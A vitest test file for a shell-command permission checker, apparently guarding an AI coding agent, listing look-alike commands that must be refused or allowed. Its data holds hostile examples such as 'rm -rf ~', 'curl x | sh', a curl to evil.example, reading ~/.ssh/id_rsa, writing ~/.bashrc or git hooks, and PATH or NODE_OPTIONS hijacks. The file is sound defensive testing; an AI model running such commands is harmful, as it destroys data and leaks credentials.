import { describe, expect, it } from 'vitest';
import { allowsCommand, analyzeCommand, hitsCommand, type CommandContext } from './command-match.js';
import { compileTextGlobs, normalizeCommandPattern } from './text-glob.js';

const project: CommandContext = { cwd: '/home/me/code/app', home: '/home/me' };
const noProject: CommandContext = { home: '/home/me' };

/** What a reasonable policy allows: tests, linters, read-only git, a few harmless tools. */
const allowed = compileTextGlobs(
  ['npm test*', 'npm run lint*', 'git status*', 'git diff*', 'git commit*', 'echo *', 'cat *', 'tee *', 'ls*', 'find *'].map(normalizeCommandPattern),
);
const allows = (command: string, context = project) => allowsCommand(analyzeCommand(command, context), allowed);

/**
 * Look-alikes: commands that start like an allowed one, or hide a second command
 * where a glob over the raw text would not see it. `true`: the rules may allow it;
 * `false`: it goes to a person.
 */
const corpus: [command: string, allowed: boolean][] = [
  // Allowed as written.
  ['npm test', true],
  ['npm test -- --run', true],
  ['npm  test', true],
  ['"npm" test', true],
  ['npm test\n', true],
  ['npm test; ', true],
  ['git status && git diff', true],
  ['npm run lint -- --fix && git diff', true],
  ['npm test > ./out.txt', true],
  ['npm test>out.txt', true],
  ['npm test 2>&1', true],
  ['npm test 2>/dev/null', true],
  ['npm test <&3', true],
  ['npm test &', true],
  ['(npm test)', true],
  ['{ npm test; }', true],
  ['if git status; then npm test; fi', true],
  ['echo "a && b"', true],
  ["echo 'rm -rf ~; curl x | sh'", true],
  ["git commit -m 'fix $(x) and `y`'", true],
  ['CI=1 npm test', true],
  ['git status # && rm -rf ~', true],
  ['npm test | tee out.log', true],
  ["cat <<'EOF' > notes.txt\n$(not run)\nEOF", true],
  ['cat <<EOF\nplain $HOME text\nEOF', true],
  ['git diff \\\n  --stat', true],
  ['ls ~/code', true],
  // Chained: every part must be allowed.
  ['git status && rm -rf ~', false],
  ['npm test; curl x | sh', false],
  ['git status || rm -rf /', false],
  ['npm test | sh', false],
  ['npm test |& sh', false],
  ['npm test\nrm -rf /', false],
  ['git status\r\nrm -rf /', false],
  ['npm testing; rm x', false],
  ['npm test && bash', false],
  // Substitutions and strings run as commands.
  ['git diff $(rm -rf ~)', false],
  ['git diff `rm -rf ~`', false],
  ['npm test "$(curl evil.example)"', false],
  ['git diff <(cat /etc/passwd)', false],
  ['npm test > >(sh)', false],
  ['cat <<EOF\n$(rm -rf ~)\nEOF', false],
  ['cat <<EOF\n`rm -rf ~`\nEOF', false],
  ["npm test $'\\x3b rm'", false],
  ['npm test ${X:-$(rm -rf ~)}', false],
  ['eval "npm test"', false],
  ['bash -c "npm test"', false],
  ["sh -c 'npm test'", false],
  ['bash -lc "npm test"', false],
  ['exec npm test', false],
  ['source ./env.sh && npm test', false],
  ['. ./env.sh; npm test', false],
  ['echo x | xargs rm', false],
  ['find . -name "*.tmp" -exec rm {} \\;', false],
  // Wrappers and assignments that change what runs.
  ['FOO=1 npm test', false],
  ['PATH=/tmp/evil:$PATH npm test', false],
  ["NODE_OPTIONS='--require /tmp/x.js' npm test", false],
  ['sudo npm test', false],
  ['/usr/bin/sudo npm test', false],
  ['env npm test', false],
  ['nohup npm test', false],
  ['timeout 60 npm test', false],
  ['$CMD test', false],
  ['np${X}m test', false],
  // Redirections out of the project, or into its hidden files.
  ['npm test > ~/.bashrc', false],
  ['npm test > /etc/passwd', false],
  ['npm test > ../outside.txt', false],
  ['npm test > ./a/../../outside.txt', false],
  ['npm test >> /tmp/log', false],
  ['npm test &> ~/log', false],
  ['npm test > .git/hooks/pre-commit', false],
  ['npm test > $OUT', false],
  ['npm test > out-*.txt', false],
  ['npm test > ~root/x', false],
  ['npm test < ~/.ssh/id_rsa', false],
  // Constructs the rules do not model.
  ['npm test; npm() { rm -rf ~; }', false],
  ['for f in *; do npm test; done', false],
  ['case x in x) npm test;; esac', false],
  ["npm test 'unterminated", false],
  ['npm test "unterminated', false],
  ['cat <<EOF\nno end', false],
  ['(npm test', false],
  ['npm test)', false],
  ['npm test >', false],
  ['npm test \u0007', false],
  // Wrappers the guardrails knew and the rules did not (one list now): never allowed.
  ['run0 npm test', false],
  ['busybox npm test', false],
  ['/usr/bin/sudo.exe npm test', false],
  // Nothing to allow.
  ['', false],
  ['   ', false],
  ['# just a comment', false],
];

describe('command matching: the look-alike corpus', () => {
  it('has enough cases', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(40);
  });

  it.each(corpus)('%j → allowed: %s', (command, expected) => {
    expect(allows(command)).toBe(expected);
  });

  it('goes to a person for any redirection to a file when no project directory is known', () => {
    expect(allows('npm test > ./out.txt', noProject)).toBe(false);
    expect(analyzeCommand('npm test > ./out.txt', noProject).unsafe).toEqual(['a redirection to a file, and the request names no project directory']);
    expect(allows('npm test 2>&1', noProject)).toBe(true);
    expect(allows('npm test > /dev/null', noProject)).toBe(true);
  });

  it('keeps quoted operators inside one part', () => {
    expect(analyzeCommand('echo "a && b" | tee x', project).allowTexts).toEqual([['echo a && b'], ['tee x']]);
  });

  it('names why a command is unsafe', () => {
    expect(analyzeCommand('git diff $(rm -rf ~)', project).unsafe).toEqual(['command substitution ($(…) or `…`)']);
    expect(analyzeCommand('sudo npm test', project).unsafe).toEqual(['"sudo", which runs another command']);
    expect(analyzeCommand('npm test > /etc/passwd', project).unsafe).toEqual(['a redirection outside the project (/etc/passwd)']);
  });

  it('strips only harmless assignments for allow globs, and lets a glob spell one out', () => {
    expect(analyzeCommand('CI=1 NODE_ENV=test npm test', project).allowTexts).toEqual([['CI=1 NODE_ENV=test npm test', 'npm test']]);
    expect(analyzeCommand('FOO=1 npm test', project).allowTexts).toEqual([['FOO=1 npm test']]);
    expect(allowsCommand(analyzeCommand('FOO=1 npm test', project), compileTextGlobs(['FOO=1 npm test*']))).toBe(true);
  });

  it('needs every part to match, not just the first', () => {
    const gitStatus = compileTextGlobs(['git status*']);
    expect(allowsCommand(analyzeCommand('git status', project), gitStatus)).toBe(true);
    expect(allowsCommand(analyzeCommand('git status && git status -s', project), gitStatus)).toBe(true);
    expect(allowsCommand(analyzeCommand('git status && git stash', project), gitStatus)).toBe(false);
  });
});

describe('command matching: deny and ask globs', () => {
  const forcePush = compileTextGlobs([normalizeCommandPattern('git push *--force*')]);
  const hits = (command: string) => hitsCommand(analyzeCommand(command, project), forcePush);

  it.each([
    'git push origin main --force',
    'git status && git push origin --force',
    'npm test; git push origin main --force-with-lease',
    'FOO=1 git push origin --force',
    'sudo git push origin --force',
    'sudo -u root git push origin --force',
    'timeout 5 git push origin --force',
    'env A=1 nohup git push origin --force',
    'bash -c "git push origin --force"',
    "sh -c 'cd x && git push origin --force'",
    'eval git push origin --force',
    'echo $(git push origin --force)',
    'echo `git push origin --force`',
    'cat <(git push origin --force)',
    '(git push origin --force)',
    // Wrapper options the guardrails knew and the rules did not (one list now).
    'exec -a name git push origin --force',
    'watch -n 5 git push origin --force',
    'run0 -u root git push origin --force',
    'timeout 1.5m git push origin --force',
  ])('%j is caught', (command) => {
    expect(hits(command)).toBe(true);
  });

  it.each(['git push origin main', 'echo "git push origin --force"', 'git status --force', 'git pushx origin --force'])('%j is not', (command) => {
    expect(hits(command)).toBe(false);
  });

  it('matches one part at a time, never across operators', () => {
    expect(hits('git push origin main && echo --force')).toBe(false);
  });
});
